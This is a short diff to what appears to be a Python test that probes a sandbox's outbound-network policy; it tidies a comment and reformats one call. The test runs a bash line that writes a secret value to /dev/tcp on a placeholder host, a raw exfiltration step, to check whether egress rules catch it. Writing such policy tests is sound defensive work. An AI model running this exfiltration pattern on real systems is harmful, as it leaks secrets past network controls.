@@ -1,7 +1,7 @@
 # class: network
 # rule: outbound_connectivity
 # policy: shared.yaml
-# success: a shell's own device leads to an allowed name, and its echo says there what is no TLS
+# success: a shell's /dev/tcp connects to an allowed name, and its echo sends bytes that are not TLS
 # proof: word
 # needs: resolver
 import subprocess
@@ -11,7 +11,8 @@ from attack import SECRET, at_allowed, attempt
 
 def say(place):
     subprocess.run(
-        ["/bin/bash", "-c", "echo " + SECRET + " >/dev/tcp/api.allowed.example/443"], stderr=subprocess.DEVNULL
+        ["/bin/bash", "-c", "echo " + SECRET + " >/dev/tcp/api.allowed.example/443"],
+        stderr=subprocess.DEVNULL,
     )
 
 
